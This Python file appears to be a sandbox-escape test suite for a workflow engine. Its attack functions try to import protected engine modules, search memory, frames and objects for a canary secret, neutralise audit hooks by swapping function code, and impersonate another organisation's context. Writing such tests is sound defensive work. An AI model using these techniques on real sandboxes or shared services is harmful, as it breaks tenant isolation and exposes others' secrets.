"""Attacks inside Python: there is nothing to find, by whichever way one looks. See weft's `attacking`.

Reaching functions of the runtime is no find: they are code with the attempt's own rights. Data of others, keys, a module of
the engine under its name, or rights that the attempt didn't have would be.
"""

from attacking import CANARY, Aim, Loot, armed, attack, ctypes, reach, read, syscall

sys = armed("sys")

os = armed("os")

re, gc = armed("re"), armed("gc")
_ENGINE = (
    "engine",
    "shared",
    "weft_runtime",
    "weft_runtime.worker",
    "weft_runtime.zygote",
    "weft_runtime.jail",
)


@attack
def imports(aim: Aim, loot: Loot) -> None:
    """The engine under its names, in twenty ways."""
    importlib = armed("importlib")
    armed("importlib.machinery")
    armed("importlib.util")

    engine = str(aim.engine)

    def by_path(name: str) -> object:
        path = f"{engine}/{name.replace('.', '/')}"
        path = path + ".py" if "." in name else path + "/__init__.py"
        spec = importlib.util.spec_from_file_location("innocent", path)
        module = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(module)
        return module

    def with_path(name: str) -> object:
        sys.path.insert(0, engine)
        try:
            return __import__(name)
        finally:
            sys.path.remove(engine)

    def by_finder(name: str) -> object:
        spec = importlib.machinery.PathFinder.find_spec(name, [engine])
        return importlib.util.module_from_spec(spec) if spec and spec.loader else None

    def without_finders(name: str) -> object:
        finders, sys.meta_path[:] = list(sys.meta_path), [importlib.machinery.PathFinder]
        sys.path.insert(0, engine)
        try:
            return importlib.import_module(name)
        finally:
            sys.path.remove(engine)
            sys.meta_path[:] = finders

    def by_text(name: str) -> object:
        space: dict[str, object] = {}
        exec(f"import {name} as found", space)
        return space["found"]

    def by_source(name: str) -> object:
        path = f"{engine}/{name.replace('.', '/')}.py"
        return compile(read(path), "innocent", "exec")

    def by_runpy(name: str) -> object:
        return reach("runpy").run_module(name)

    def by_pickle(name: str) -> object:
        return reach("pickle").loads(f"c{name}\n__name__\n.".encode())

    def by_pkgutil(name: str) -> object:
        return reach("pkgutil").resolve_name(name)

    def by_zip(name: str) -> object:
        zipfile = reach("zipfile")
        with zipfile.ZipFile("engine.zip", "w") as archive:
            archive.write(f"{engine}/{name.replace('.', '/')}.py", "innocent.py")
        sys.path.insert(0, os.path.abspath("engine.zip"))
        return __import__("innocent")

    def by_link(name: str) -> object:
        os.symlink(engine, "linked")
        sys.path.insert(0, os.getcwd())
        return __import__("linked.weft_runtime.worker")

    def by_fork_server(name: str) -> object:
        done = reach("subprocess").run(
            [sys.executable, "-c", f"import sys; sys.path.insert(0, {engine!r}); import {name}; print('in')"],
            capture_output=True, timeout=5,
        )  # fmt: skip
        # Another interpreter is another process without rights; that it can read the engine is what counts.
        return done.stdout

    ways = {
        "import": by_text, "__import__": __import__, "import_module": importlib.import_module, "reload": lambda n: importlib.reload(sys.modules[n]),
        "path": with_path, "spec": importlib.util.find_spec, "file": by_path, "finder": by_finder, "no finders": without_finders,
        "source": by_source, "runpy": by_runpy, "pickle": by_pickle, "pkgutil": by_pkgutil, "zip": by_zip, "link": by_link,
        "another interpreter": by_fork_server, "sys.modules": lambda n: sys.modules[n], "builtins": lambda n: __builtins__["__import__"](n),
        "bootstrap": lambda n: sys.modules["_frozen_importlib"]._gcd_import(n), "relative": lambda n: importlib.import_module("." + n, "weft"),
        "parent": lambda n: importlib.import_module(f"..{n}", "weft.x"),
    }  # fmt: skip
    for way, action in ways.items():
        for name in _ENGINE:
            try:
                found = action(name)
            except BaseException:
                continue
            if found:
                loot.got(f"{name} by {way}", str(found)[:60])


@attack
def objects(aim: Aim, loot: Loot) -> None:
    """Every object that the collector or a walk over subclasses finds, searched for data of others."""
    seen = 0
    pattern = re.compile(CANARY.decode())
    for one in gc.get_objects():
        seen += 1
        try:
            if isinstance(one, (str, bytes)):
                text = one if isinstance(one, str) else one.decode("latin-1")
            elif isinstance(one, dict):
                text = " ".join(value for value in one.values() if isinstance(value, str))[:100000]
            else:
                continue
        except Exception:
            continue
        for found in pattern.findall(text):
            loot.got("in an object", found)
    for kind in object.__subclasses__():
        try:
            for sub in type.__subclasses__(kind):
                if sub.__module__.startswith(("engine", "shared")):
                    loot.got("class of the engine", sub)
        except Exception:
            continue


@attack
def frames(aim: Aim, loot: Loot) -> None:
    """Frames above this one, their locals and globals, those of exceptions, and of other threads."""
    pattern = re.compile(CANARY.decode())
    spaces = []
    for top in sys._current_frames().values():
        frame = top
        while frame is not None:
            spaces += [frame.f_locals, frame.f_globals]
            frame = frame.f_back
    for space in spaces:
        for name, value in list(space.items()):
            try:
                text = repr(value)[:200000]
            except Exception:
                continue
            for found in pattern.findall(text):
                loot.got(f"in {name}", found)


@attack
def own_memory(aim: Aim, loot: Loot) -> None:
    """Every readable page of this process, which a fork has from its zygote."""
    pattern = re.compile(CANARY)
    chunk = 1 << 20

    def by_file() -> None:
        with open("/proc/self/mem", "rb", buffering=0) as memory:
            for start, end in _mappings():
                at = start
                while at < end:
                    try:
                        data = os.pread(memory.fileno(), min(chunk, end - at), at)
                    except OSError:
                        break
                    for found in pattern.findall(data):
                        loot.got("in memory", found)
                    at += chunk

    def by_system_call(spans: list[tuple[int, int]]) -> None:
        # The kernel answers EFAULT where there is no page, where a pointer of our own would end the process.
        reading, writing = os.pipe()
        for start, end in spans:
            for at in range(start, end, 65536):
                try:
                    size = syscall("write", writing, at, min(65536, end - at))
                except OSError:
                    continue
                data = b""
                while len(data) < size:
                    data += os.read(reading, size)
                for found in pattern.findall(data):
                    loot.got("in memory, by the kernel", found)

    def around_objects() -> None:
        places = sorted({id(one) >> 24 for one in gc.get_objects()})
        by_system_call([(place << 24, (place + 1) << 24) for place in places[:32]])

    loot.attempt("file", by_file)
    loot.attempt("system call", lambda: by_system_call(_mappings()))
    loot.attempt("without a map", around_objects)


def _mappings() -> list[tuple[int, int]]:
    found = []
    for line in read("/proc/self/maps", 1 << 20).decode(errors="replace").splitlines():
        span, rights, *_rest = line.split()
        if rights.startswith("r") and not any(name in line for name in ("[vvar", "[vsyscall", "[vdso")):
            start, _, end = span.partition("-")
            found.append((int(start, 16), int(end, 16)))
    return found


@attack
def orders_of_others(aim: Aim, loot: Loot) -> None:
    """What the zygote was told about other workers (modules, folders), left over in the memory that a fork copies."""
    own = __name__.encode()
    pattern = re.compile(rb'"module" ?: ?"(workflows\.[a-z_]+)"')
    seen = set()
    reading, writing = os.pipe()
    for start, end in _mappings():
        for at in range(start, min(end, start + (64 << 20)), 65536):
            try:
                size = syscall("write", writing, at, min(65536, end - at))
            except OSError:
                continue
            data = b""
            while len(data) < size:
                data += os.read(reading, size)
            seen.update(pattern.findall(data))
    for name in seen - {own}:
        loot.got("a module of another attempt", name)


@attack
def hooks_removed(aim: Aim, loot: Loot) -> None:
    """Audit hooks cut out of the interpreter's memory; then the engine again."""
    types = ctypes()
    # The list of Python-level hooks is in the interpreter's state; the guard's function is made to agree with everything.
    for one in gc.get_objects():
        if (
            type(one).__name__ == "function"
            and one.__name__ in ("hook", "find_spec")
            and "weft_runtime" in str(one.__module__)
        ):
            try:
                one.__code__ = (lambda *_, **__: None).__code__
            except Exception:
                # Free variables have to match: replace by one that has as many.
                _blind(one, types)
    loot.attempt("engine after that", lambda: read(f"{aim.engine}/weft_runtime/worker.py")[:40])
    for name in ("engine", "shared"):
        loot.attempt(f"{name} after that", lambda name=name: str(__import__(name)))


def _blind(function, types) -> None:  # type: ignore[no-untyped-def]
    names = function.__code__.co_freevars
    source = "def outer():\n" + "".join(f"    {name} = None\n" for name in names)
    source += (
        f"    def blind(event, args):\n        return None\n        {', '.join(names)}\n    return blind\n"
    )
    space: dict[str, object] = {}
    exec(source, space)
    function.__code__ = space["outer"]().__code__  # type: ignore[operator]


@attack
def more_rights_by_context(aim: Aim, loot: Loot) -> None:
    """The context rewritten to be another organization's, and then asked."""
    context = loot._ctx
    for path in (("organization", "id"), ("run", "id"), ("run", "attempt_id"), ("caller", "id")):
        one = getattr(context, path[0], None)
        for name in (path[1], "_" + path[1]):
            try:
                object.__setattr__(
                    one, name, aim.victim_organization if path[0] == "organization" else aim.victim_run
                )
            except Exception:
                continue
    for key in ("secret", "greeting", "planted"):
        found = None
        try:
            found = context.config.get(key)
        except BaseException:
            continue
        if found and re.search(CANARY.decode(), str(found)):
            loot.got("configuration of others", found)
